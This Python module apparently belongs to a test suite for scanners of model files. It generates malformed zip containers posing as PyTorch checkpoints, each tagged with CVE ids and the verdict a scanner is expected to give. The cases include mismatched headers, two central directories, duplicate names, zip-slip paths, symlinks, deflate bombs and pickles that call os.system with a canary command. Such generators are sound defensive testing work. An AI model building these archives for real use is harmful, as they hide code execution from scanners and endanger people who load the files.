# ruff: noqa: E501  (tables, one attack a line)
"""Zip containers that lie: each is read by others in one way or the other."""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from attacks import canary
from attacks.attack import INERT, Attack, Must, add, attack, refused, told
from attacks.families.pickles_that_run import call
from attacks.families.torch_files import archive, storage_id, tensor, text, torch_zip

FAMILY = "zip"


def system() -> bytes:
    return call("os", "system", canary.shell())


@dataclass
class Member:
    """A record as the zip file tells of it twice; what is None is as it should be."""

    name: bytes
    data: bytes
    method: int = 0
    flags: int = 0
    crc: int | None = None
    size: int | None = None
    stored: int | None = None
    local_name: bytes | None = None
    local_size: int | None = None
    local_crc: int | None = None
    local_flags: int | None = None
    local_method: int | None = None
    extra: bytes = b""
    local_extra: bytes = b""
    offset: int | None = None
    disk: int = 0


def zipped(
    *members: Member,
    before: bytes = b"",
    comment: bytes = b"",
    count: int | None = None,
    directory: int | None = None,
    size: int | None = None,
    end: bytes | None = None,
) -> bytes:
    body, listed = before, b""
    for m in members:
        packed = m.data
        if m.method == 8:
            press = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = press.compress(m.data) + press.flush()
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        full = len(m.data) if m.size is None else m.size
        stored = len(packed) if m.stored is None else m.stored
        at = len(body) if m.offset is None else m.offset
        name = m.name if m.local_name is None else m.local_name
        body += struct.pack(
            "<4s5H3I2H", b"PK\x03\x04", 20, m.flags if m.local_flags is None else m.local_flags,
            m.method if m.local_method is None else m.local_method, 0, 0,
            crc if m.local_crc is None else m.local_crc, stored,
            full if m.local_size is None else m.local_size, len(name), len(m.local_extra),
        ) + name + m.local_extra + packed  # fmt: skip
        listed += struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, m.flags, m.method, 0, 0, crc, stored, full,
            len(m.name), len(m.extra), 0, m.disk, 0, 0, at,
        ) + m.name + m.extra  # fmt: skip
    place = len(body) if directory is None else directory
    number = len(members) if count is None else count
    if end is None:
        end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, number & 0xFFFF, number & 0xFFFF,
                          len(listed) if size is None else size, place, len(comment)) + comment  # fmt: skip
    return body + listed + end


WEIGHTS = (b"\x80\x02}" + text(b"0.weight")
           + tensor(storage_id(count=b"K\x02"), b"K\x00", b"K\x01K\x02\x86", b"K\x02K\x01\x86")
           + b"s.")  # fmt: skip


def members(**pickled: object) -> list[Member]:
    """Those of a small torch file; the arguments are of its data.pkl."""
    return [Member(b"m/data.pkl", WEIGHTS, **pickled),  # type: ignore[arg-type]
            Member(b"m/version", b"3\n"), Member(b"m/data/0", struct.pack("<2f", 1, 2))]  # fmt: skip


def _add(name: str, tries: str, must: Must, make, seen: str = "ours") -> None:
    add(Attack(name, FAMILY, tries, must, lambda folder: make(), seen))


MISMATCH, NAME = told("zip-header-mismatch"), told("zip-name-mismatch")
_add(
    "flag bit of encryption in the directory",
    "scanners stop at it, torch goes on",
    refused("zip-unreadable-record"),
    lambda: zipped(*members(flags=1)),
    "CVE-2025-1945",
)
_add(
    "flag bit of encryption in the local header",
    "scanners stop at it, torch goes on",
    MISMATCH,
    lambda: zipped(*members(local_flags=1)),
    "CVE-2025-1945",
)
for _bit in (5, 6, 13):
    _add(
        f"flag bit {_bit}",
        "patched data, strong encryption, masked headers: scanners stop",
        INERT if _bit == 5 else refused("zip-unreadable-record"),
        lambda bit=_bit: zipped(*members(flags=1 << bit)),
        "CVE-2025-1945",
    )
_add(
    "flag bit of a data descriptor",
    "sizes of nothing in the local header",
    INERT,
    lambda: zipped(*members(flags=8, local_size=0, local_crc=0)),
)
_add(
    "local name other than the directory's",
    "a scanner reads by one, torch by the other",
    NAME,
    lambda: zipped(*members(local_name=b"m/data.txt")),
    "CVE-2025-1944",
)
_add(
    "local name longer than the directory's",
    "data that begin elsewhere",
    NAME,
    lambda: zipped(*members(local_name=b"m/data.pkl" + b"x" * 50)),
    "CVE-2025-1944",
)
_add(
    "wrong CRC",
    "scanners stop at it, torch does not check",
    refused("crc-mismatch"),
    lambda: zipped(*members(crc=0xDEADBEEF)),
    "CVE-2025-10156",
)
_add(
    "CRC of zero",
    "`not computed` to torch, wrong to scanners",
    INERT,
    lambda: zipped(*members(crc=0)),
    "CVE-2025-10156",
)
_add(
    "CRC of the local header wrong",
    "two CRCs of one record",
    MISMATCH,
    lambda: zipped(*members(local_crc=1)),
    "CVE-2025-10156",
)
_add(
    "wrong CRC on a payload",
    "scanners stop at it, torch runs it",
    refused("crc-mismatch"),
    lambda: zipped(
        Member(b"m/data.pkl", b"\x80\x02" + system() + b".", crc=7), Member(b"m/version", b"3\n")
    ),
    "CVE-2025-10156",
)
_add(
    "local size other than the directory's",
    "a record of two lengths",
    MISMATCH,
    lambda: zipped(*members(local_size=3)),
)
_add(
    "local method other than the directory's",
    "stored or deflated, by whom one asks",
    MISMATCH,
    lambda: zipped(*members(local_method=8)),
)
_add(
    "unknown method",
    "a compression that nobody knows",
    refused("zip-unreadable-record"),
    lambda: zipped(*members(method=99)),
)
_add(
    "stored with two sizes",
    "a stored record of other length than stored",
    refused("zip-record-short"),
    lambda: zipped(*members(size=4)),
)
_add(
    "size of 2^32 - 1",
    "zip64's mark without zip64's field",
    refused("zip-no-pickle"),
    lambda: zipped(*members(size=0xFFFFFFFF, stored=0xFFFFFFFF)),
)
_Z = struct.pack("<HHQQ", 1, 16, (1 << 63) - 1, (1 << 63) - 1)
_add(
    "zip64 sizes of 2^63",
    "to overflow",
    refused("zip-no-pickle"),
    lambda: zipped(*members(size=0xFFFFFFFF, stored=0xFFFFFFFF, extra=_Z)),
)
_add(
    "zip64 field too short",
    "to read past the field",
    refused("zip-no-pickle"),
    lambda: zipped(*members(size=0xFFFFFFFF, stored=0xFFFFFFFF, extra=struct.pack("<HH", 1, 40))),
)
_add(
    "zip64 offset of 2^64",
    "to overflow",
    refused("zip-no-pickle"),
    lambda: zipped(*members(offset=0xFFFFFFFF, extra=struct.pack("<HHQ", 1, 8, (1 << 64) - 8))),
)
_add(
    "zip64 field that is not needed",
    "sizes by the field against sizes by the header",
    INERT,
    lambda: zipped(*members(extra=_Z)),
    "CVE-2025-1944",
)
_add(
    "offset past the file",
    "a record that is not there",
    refused("zip-no-pickle"),
    lambda: zipped(*members(offset=1 << 30)),
)
_add(
    "records that overlap",
    "one run of bytes as two records",
    refused("zip-overlap"),
    lambda: zipped(*members(), Member(b"m/x", b"abc", offset=0)),
    "zip quine and Fifield's bomb",
)
_add(
    "a record in the directory itself",
    "a record whose bytes are the directory's",
    refused("zip-no-pickle"),
    lambda: zipped(*members()[1:], Member(b"m/data.pkl", WEIGHTS, stored=400, size=400)),
)
_add(
    "on another disk",
    "a record of a disk that is not there",
    INERT,
    lambda: zipped(*members(disk=7)),
)


def two_directories() -> bytes:
    """An end record in the comment of another: which is the last, front or back?"""
    honest = zipped(*members())
    bad = zipped(Member(b"m/data.pkl", b"\x80\x02" + system() + b"."), Member(b"m/version", b"3\n"))
    return honest[:-2] + struct.pack("<H", len(bad)) + bad


_add(
    "two central directories",
    "a scanner reads one, torch the other",
    told("code-in-file"),
    two_directories,
    "CVE-2025-1944",
)
_add(
    "concatenated archives",
    "the first to one reader, the last to another",
    refused("shard-alone"),
    lambda: (
        zipped(*members())
        + zipped(Member(b"m/data.pkl", b"\x80\x02" + system() + b"."), Member(b"m/version", b"3\n"))
    ),
    "CVE-2025-1944",
)
_add(
    "payload before the archive",
    "a pickle in front: pickle.load runs it, a zip reader does not",
    told("code-in-file"),
    lambda: system() + b"." + zipped(*members()),
    "polyglots",
)
_add(
    "junk before the archive",
    "offsets that count from elsewhere",
    INERT,
    lambda: zipped(*members(), before=b"PK\x03\x04" + b"x" * 500),
)
_add(
    "an end record in a comment",
    "a false end",
    refused("any"),
    lambda: zipped(*members(), comment=b"PK\x05\x06" + b"\0" * 18),
)
_add(
    "more records counted than listed",
    "to read past the directory",
    refused("over-budget"),
    lambda: zipped(*members(), count=60_000),
)
_add(
    "fewer records counted than listed",
    "records that only some see",
    told("zip-directory-count"),
    lambda: zipped(*members(), count=1),
    "CVE-2025-1944",
)
_add(
    "directory past the file",
    "to read what is not there",
    refused("zip-no-directory"),
    lambda: zipped(*members(), directory=0xFFFFFFF0),
)
_add(
    "directory of 4 GiB",
    "memory for a directory that is not there",
    refused("zip-no-directory"),
    lambda: zipped(*members(), size=0xFFFFFFF0),
)
_add(
    "no directory",
    "only local headers, which some salvage by themselves",
    refused("zip-no-directory"),
    lambda: zipped(*members(), end=b""),
)
_add(
    "the name twice",
    "the first to one reader, the last to another",
    told("zip-duplicate-name"),
    lambda: zipped(*members(), Member(b"m/data.pkl", b"\x80\x02" + system() + b".")),
    "CVE-2025-1944",
)
for _name in ("../../outside/planted", "/tmp/planted", "..\\..\\planted", "C:\\planted", "m/../../x",
              "m/data/\x00evil", "m/./data/0", "m//data/0"):  # fmt: skip
    _add(
        f"record called {_name!r}",
        "to write outside when unpacked",
        told("zip-path-trick") if ".." in _name or _name[0] == "/" else INERT,
        lambda name=_name: zipped(*members(), Member(name.encode(), b"x")),
        "zip slip",
    )
_add(
    "record called data.pkl by a look-alike",
    "`dаta.pkl` with a Cyrillic letter",
    INERT,
    lambda: zipped(*members(), Member("m/dаta.pkl".encode(), system() + b".", flags=0x800)),
)
_add(
    "names of no encoding",
    "names that cannot be shown",
    INERT,
    lambda: zipped(*members(), Member(b"m/\xff\xfe\x80", b"x")),
)
_add(
    "name of 64 KiB",
    "a name longer than all else",
    INERT,
    lambda: zipped(*members(), Member(b"m/" + b"x" * 65_000, b"x")),
)
_add("a symbolic link", "to lead outside when unpacked", INERT, lambda: _link(), "zip slip")


def _link() -> bytes:
    made = io.BytesIO(torch_zip(WEIGHTS, {"m/data/0": bytes(8)}))
    with zipfile.ZipFile(made, "a") as archive_:
        info = zipfile.ZipInfo("m/link")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive_.writestr(info, "../../outside/secret")
    return made.getvalue()


@attack(
    FAMILY,
    "deflate bomb",
    "gigabytes from megabytes",
    refused("storage-size-mismatch"),
    "zip bombs",
)
def bomb(folder: Path) -> bytes:
    return archive({"m/data.pkl": WEIGHTS, "m/version": b"3\n", "m/data/0": bytes(100 << 20)},
                   zipfile.ZIP_DEFLATED)  # fmt: skip


_add(
    "deflate bomb that lies about its size",
    "gigabytes from a record of 8 bytes, by its sizes",
    refused("bytes-missing"),
    lambda: zipped(*members()[:2], Member(b"m/data/0", bytes(64 << 20), method=8, size=8, crc=0)),
    "zip bombs",
)
_add(
    "deflate bomb in data.pkl",
    "gigabytes of pickle",
    refused("over-budget"),
    lambda: zipped(Member(b"m/data.pkl", bytes(200 << 20), method=8), *members()[1:]),
    "zip bombs",
)
_add(
    "deflated data.pkl that ends early",
    "a stream that is cut",
    refused("zip-record-short"),
    lambda: zipped(Member(b"m/data.pkl", WEIGHTS * 50, method=8, stored=20), *members()[1:]),
)
_add(
    "forty archives in one another",
    "to unpack without end",
    INERT,
    lambda: _within(40),
    "zip quine",
)
_add(
    "a hundred thousand empty records",
    "memory for names",
    refused("over-budget"),
    lambda: archive({f"m/{i}": b"" for i in range(60_000)} | {"m/data.pkl": WEIGHTS}),
)


def _within(depth: int) -> bytes:
    inner = torch_zip(b"\x80\x02" + system() + b".")
    for _ in range(depth):
        inner = torch_zip(WEIGHTS, {"m/inner.zip": inner, "m/data/0": bytes(8)})
    return inner
